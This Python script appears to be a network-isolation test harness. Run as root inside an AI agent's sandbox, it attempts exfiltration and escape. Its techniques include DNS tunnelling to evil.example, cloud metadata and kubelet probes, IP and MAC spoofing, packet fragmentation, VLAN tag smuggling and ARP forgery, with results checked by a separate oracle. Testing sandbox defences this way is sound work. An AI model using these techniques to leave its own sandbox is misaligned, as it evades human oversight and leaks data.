"""Attacks on the network path, run as root in an agent's namespace.

Prints the name of each attack and what the attacker itself saw of it. That is told for whoever reads a
failure, and never judged: what counts is what arrived on the other side (oracle.py).

Each attack has a destination of its own, 198.18.0.<n> or 2001:db8:1::<n>, by which it is told there.
"""
import json, os, random, socket, struct, sys
from concurrent.futures import ThreadPoolExecutor

args = json.loads(sys.argv[1])
SELF4, SELF6, OTHER4, OTHER6 = args["self4"], args["self6"], args["other4"], args["other6"]
NODE4, NODE6, LINK, GATEWAY = args["node4"], args["node6"], args.get("link", "eth0"), args["gatewayMac"]
WAIT_S = 0.25
# For names, where somebody is there to answer: a busy machine takes its time.
ANSWER_S = 20 if args.get("isAnswered") else WAIT_S
ATTACKS = {}
ETH = {4: 0x0800, 6: 0x86DD}


def attack(name, raw=False):
    def keep(fn):
        ATTACKS[name] = (len(ATTACKS) + 1, raw, fn)
        return fn
    return keep


def d4(n):
    return f"198.18.0.{n}"


def d6(n):
    return f"2001:db8:1::{n:x}"


# ---------------------------------------------------------------------------------------- packets
def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def pseudo(src, dst, proto, length):
    if ":" in src:
        return socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + \
            struct.pack("!I3xB", length, proto)
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!xBH", proto, length)


def udp(src, dst, sport, dport, data):
    head = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)
    total = checksum(pseudo(src, dst, 17, len(head) + len(data)) + head + data)
    return head[:6] + struct.pack("!H", total or 0xFFFF) + data


def tcp(src, dst, sport, dport, flags, data=b""):
    head = struct.pack("!HHIIBBHHH", sport, dport, 1000, 1000 if flags & 16 else 0, 0x50, flags, 1024, 0, 0)
    total = checksum(pseudo(src, dst, 6, len(head) + len(data)) + head + data)
    return head[:16] + struct.pack("!H", total) + head[18:] + data


def ip4(src, dst, proto, body, ident=None, flags_offset=0, options=b""):
    words = 5 + len(options) // 4
    ident = random.randrange(65536) if ident is None else ident
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, words * 4 + len(body), ident, flags_offset, 64,
                       proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def ip6(src, dst, proto, body, hops=64):
    return struct.pack("!IHBB", 0x60000000, len(body), proto, hops) + \
        socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + body


def frame(version, packet, source=None):
    """Writes a packet to the gateway, past everything that the agent's own kernel would say."""
    return write(GATEWAY, ETH[version], packet, source)


def write(target, kind, body, source=None):
    """Writes a whole frame."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((LINK, 0))
        if args.get("mark"):
            s.setsockopt(socket.SOL_SOCKET, 36, args["mark"])
        mac = source or s.getsockname()[4]
        s.send(bytes.fromhex(target.replace(":", "")) + mac + struct.pack("!H", kind) + body)
    return "sent"


# -------------------------------------------------------------------------------- ordinary sockets
def connect(host, port, data=b"ALTRACE-ATTACK\r\n\r\n", sport=0):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT_S)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if sport:
            s.bind(("", sport))
        s.connect((host, port))
        s.send(data)
        return f"read {len(s.recv(200))}"


def send(host, port, data=b"ALTRACE-ATTACK", sport=0, wait_s=WAIT_S):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(wait_s)
        if sport:
            s.bind(("", sport))
        s.sendto(data, (host, port))
        return f"read {s.recvfrom(600)[0].hex()}"


def question(name, kind=1):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)


def edns(asked, option):
    """Beside the question the one record that a client may send, with an option that holds what it likes."""
    held = struct.pack("!HH", 65001, len(option)) + option
    return asked[:10] + b"\0\1" + asked[12:] + struct.pack("!BHHIH", 0, 41, 4096, 0, len(held)) + held


def hello(name):
    sni = b"\0" + struct.pack("!H", len(name)) + name.encode()
    body = struct.pack("!H", len(sni)) + sni
    extensions = struct.pack("!HH", 0, len(body)) + body if name else b""
    hello = b"\3\3" + bytes(32) + b"\0" + struct.pack("!HH", 2, 0x1301) + b"\1\0" + \
        struct.pack("!H", len(extensions)) + extensions
    shake = b"\1" + struct.pack("!I", len(hello))[1:] + hello
    return b"\x16\3\1" + struct.pack("!H", len(shake)) + shake


for port in (22, 80, 443, 853, 4433, 8080, 65535):
    attack(f"tcp4-{port}")(lambda n, port=port: connect(d4(n), port))
for port in (80, 443, 853):
    attack(f"tcp6-{port}")(lambda n, port=port: connect(d6(n), port))
for port in (123, 443, 51820):
    attack(f"udp4-{port}")(lambda n, port=port: send(d4(n), port))
for port in (443, 4242):
    attack(f"udp6-{port}")(lambda n, port=port: send(d6(n), port))

attack("tcp4-mapped")(lambda n: connect(f"::ffff:{d4(n)}", 443))
attack("nat64")(lambda n: connect(f"64:ff9b::198.18.0.{n}", 443))
attack("dns-udp4")(lambda n: send(d4(n), 53, question("evil.example")))
attack("dns-udp6")(lambda n: send(d6(n), 53, question("evil.example")))
attack("dns-allowed")(lambda n: send(d4(n), 53, question("allowed.example"), wait_s=ANSWER_S))
attack("dns-txt-tunnel")(lambda n: send(d4(n), 53, question("c2VjcmV0.evil.example", 16)))
# Kinds that carry more than an address, a record that carries anything, a name in capitals, one that points at itself.
for title, kind in (("any", 255), ("https", 65), ("svcb", 64), ("srv", 33), ("transfer", 252)):
    attack(f"dns-{title}")(lambda n, kind=kind: send(d4(n), 53, question("c2VjcmV0.evil.example", kind)))
attack("dns-edns")(lambda n: send(d4(n), 53, edns(question("c2VjcmV0.evil.example"), b"exfiltrated")))
attack("dns-capitals")(lambda n: send(d4(n), 53, question("SeCrEt.EVIL.example")))
attack("dns-pointer")(lambda n: send(d4(n), 53, question("")[:12] + b"\x05exfil\xc0\x0c\0\x01\0\x01"))
attack("dns-two-questions")(lambda n: send(d4(n), 53, b"\0\7\1\0\0\2" + question("allowed.example")[6:] + question("c2VjcmV0.evil.example")[12:]))
attack("dns-tcp6")(lambda n: connect(d6(n), 53, b"\0\x1e" + question("evil.example")))
attack("dns-tcp4")(lambda n: connect(d4(n), 53, b"\0\x1e" + question("evil.example")))
attack("not-dns-on-53")(lambda n: send(d4(n), 53, b"exfiltrated"))
attack("sni-evil")(lambda n: connect(d4(n), 443, hello("evil.example")))
attack("sni-none")(lambda n: connect(d4(n), 443, hello("")))
attack("sni-allowed-address-evil")(lambda n: connect(d4(n), 443, hello("allowed.example")))
attack("metadata")(lambda n: connect("169.254.169.254", 80))
attack("metadata6")(lambda n: connect("fd00:ec2::254", 80))
attack("source-port-53-tcp")(lambda n: connect(d4(n), 443, sport=53))
attack("source-port-53-udp")(lambda n: send(d4(n), 443, sport=5353))
for service in (10250, 2222, 50051):
    attack(f"node-tcp4-{service}")(lambda n, s=service: connect(NODE4, s))
attack("node-tcp6-10250")(lambda n: connect(NODE6, 10250))
attack("node-udp4-9999")(lambda n: send(NODE4, 9999))
attack("pod-tcp4")(lambda n: connect(OTHER4, 7000))
attack("pod-tcp6")(lambda n: connect(OTHER6, 7000))
attack("pod-udp4")(lambda n: send(OTHER4, 7000))


# --------------------------------------------------------------------------------- raw packets, root
def raw(name):
    return attack(name, raw=True)


raw("icmp4-echo")(lambda n: frame(4, ip4(SELF4, d4(n), 1, b"\x08\0" + struct.pack("!H", checksum(b"\x08\0\0\0" + bytes(4))) + bytes(4))))
def echo6(src, dst):
    head = b"\x80\0\0\0" + bytes(4)
    return ip6(src, dst, 58, head[:2] + struct.pack("!H", checksum(pseudo(src, dst, 58, 8) + head)) + head[4:])
raw("icmp6-echo")(lambda n: frame(6, echo6(SELF6, d6(n))))
for protocol in (4, 33, 41, 47, 50, 132, 136, 253):
    raw(f"protocol4-{protocol}")(lambda n, p=protocol: frame(4, ip4(SELF4, d4(n), p, bytes(24))))
for protocol in (47, 253):
    raw(f"protocol6-{protocol}")(lambda n, p=protocol: frame(6, ip6(SELF6, d6(n), p, bytes(24))))
for title, flags in (("fin", 1), ("ack", 16), ("syn-ack", 18), ("null", 0), ("xmas", 41), ("rst", 4), ("syn-fin", 3)):
    raw(f"tcp-flags-{title}")(lambda n, f=flags: frame(4, ip4(SELF4, d4(n), 6, tcp(SELF4, d4(n), 4000 + n, 443, f, b"exfil"))))
raw("tcp-syn-with-data")(lambda n: frame(4, ip4(SELF4, d4(n), 6, tcp(SELF4, d4(n), 4000 + n, 443, 2, b"exfil"))))
raw("udp-port-0")(lambda n: frame(4, ip4(SELF4, d4(n), 17, udp(SELF4, d4(n), 0, 0, b"exfil"))))
raw("record-route")(lambda n: frame(4, ip4(SELF4, d4(n), 17, udp(SELF4, d4(n), 1, 443, b"exfil"), options=b"\x07\x0b\x04" + bytes(9))))
raw("spoof4-outside")(lambda n: frame(4, ip4("203.0.113.9", d4(n), 17, udp("203.0.113.9", d4(n), 5, 443, b"exfil"))))
raw("spoof4-pod")(lambda n: frame(4, ip4(OTHER4, d4(n), 17, udp(OTHER4, d4(n), 5, 443, b"exfil"))))
raw("spoof4-pod-tcp")(lambda n: frame(4, ip4(OTHER4, d4(n), 6, tcp(OTHER4, d4(n), 5, 443, 2))))
raw("spoof4-pod-dns")(lambda n: frame(4, ip4(OTHER4, d4(n), 17, udp(OTHER4, d4(n), 5, 53, question("evil.example")))))
raw("spoof6-outside")(lambda n: frame(6, ip6("2001:db8:9::9", d6(n), 17, udp("2001:db8:9::9", d6(n), 5, 443, b"exfil"))))
raw("spoof-mac")(lambda n: frame(4, ip4(SELF4, d4(n), 17, udp(SELF4, d4(n), 5, 443, b"exfil")), b"\x02\0\0\0\xbe\xef"))


@raw("fragment-tiny")
def _(n):
    whole = tcp(SELF4, d4(n), 4000 + n, 443, 2, b"exfiltrated by little")
    frame(4, ip4(SELF4, d4(n), 6, whole[:8], 99, 0x2000))
    return frame(4, ip4(SELF4, d4(n), 6, whole[8:], 99, 1))


@raw("fragment-udp")
def _(n):
    whole = udp(SELF4, d4(n), 5, 443, bytes(64))
    frame(4, ip4(SELF4, d4(n), 17, whole[:32], 98, 0x2000))
    return frame(4, ip4(SELF4, d4(n), 17, whole[32:], 98, 4))


@raw("fragment6-udp")
def _(n):
    whole = udp(SELF6, d6(n), 5, 443, bytes(64))
    frame(6, ip6(SELF6, d6(n), 44, struct.pack("!BxHI", 17, 1, 97) + whole[:32]))
    return frame(6, ip6(SELF6, d6(n), 44, struct.pack("!BxHI", 17, 32, 97) + whole[32:]))


raw("fragment6-atomic")(lambda n: frame(6, ip6(SELF6, d6(n), 44, struct.pack("!BxHI", 17, 0, 96) + udp(SELF6, d6(n), 5, 443, b"exfil"))))
raw("header6-hop-by-hop")(lambda n: frame(6, ip6(SELF6, d6(n), 0, b"\x11\0\1\4\0\0\0\0" + udp(SELF6, d6(n), 5, 443, b"exfil"))))
raw("header6-options-tcp")(lambda n: frame(6, ip6(SELF6, d6(n), 60, b"\x06\0\1\4\0\0\0\0" + tcp(SELF6, d6(n), 4000, 443, 2))))
raw("header6-routing")(lambda n: frame(6, ip6(SELF6, d6(n), 43, b"\x11\0\4\0\0\0\0\0" + udp(SELF6, d6(n), 5, 443, b"exfil"))))
# In the tag of no network, which whoever takes the frame takes off, and in two of them.
for title, kind, tags in (("priority", 0x8100, b"\0\0"), ("provider", 0x88A8, b"\0\0"), ("twice", 0x88A8, b"\0\0\x81\0\0\0")):
    raw(f"tag4-{title}")(lambda n, k=kind, t=tags: write(GATEWAY, k, t + b"\x08\0" + ip4(SELF4, d4(n), 17, udp(SELF4, d4(n), 5, 443, b"exfil"))))
    raw(f"tag6-{title}")(lambda n, k=kind, t=tags: write(GATEWAY, k, t + b"\x86\xdd" + ip6(SELF6, d6(n), 17, udp(SELF6, d6(n), 5, 443, b"exfil"))))
raw("pod-icmp4")(lambda n: frame(4, ip4(SELF4, OTHER4, 1, b"\x08\0\xf7\xff\0\0\0\0")))
raw("pod-protocol4-253")(lambda n: frame(4, ip4(SELF4, OTHER4, 253, b"exfil-exfil")))


# Where pods share a link: frames to another of them that hold no packet, or one that is hidden.
if OTHER_MAC := args.get("otherMac"):
    def arp(operation):
        own = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + bytes.fromhex("02000000beef")
        return own + socket.inet_aton("203.0.113.9") + bytes(6) + socket.inet_aton(OTHER4)
    raw("pod-link-ethertype")(lambda n: write(OTHER_MAC, 0x88B5, b"exfil" + bytes(60)))
    raw("pod-link-mpls")(lambda n: write(OTHER_MAC, 0x8847, b"\0\x01\x01\x40exfil" + bytes(60)))
    for title, kind, tag in (("vlan", 0x8100, b"\0\5"), ("priority", 0x8100, b"\0\0"), ("provider", 0x88A8, b"\0\5")):
        body = tag + b"\x08\0" + ip4(SELF4, OTHER4, 254, f"exfil-{title}".encode())
        raw(f"pod-link-{title}")(lambda n, k=kind, b=body: write(OTHER_MAC, k, b))
    for title, operation in (("asks", 1), ("says", 2)):
        raw(f"pod-link-arp-{title}")(lambda n, o=operation: write(OTHER_MAC, 0x0806, arp(o)))


def run(name):
    number, _, fn = ATTACKS[name]
    try:
        return {"name": name, "n": number, "saw": str(fn(number))}
    except OSError as error:
        return {"name": name, "n": number, "saw": f"{type(error).__name__} {error}"}


if args.get("uid"):
    os.setgroups([])
    os.setresgid(args["uid"], args["uid"], args["uid"])
    os.setresuid(args["uid"], args["uid"], args["uid"])
names = [name for name in ATTACKS if args["only"] is None or name in args["only"]]
if args["only"] is not None and len(names) != len(args["only"]):
    sys.exit(f"no such attacks: {set(args['only']) - set(names)}")
with ThreadPoolExecutor(len(names)) as pool:
    for outcome in pool.map(run, names):
        print(json.dumps(outcome))
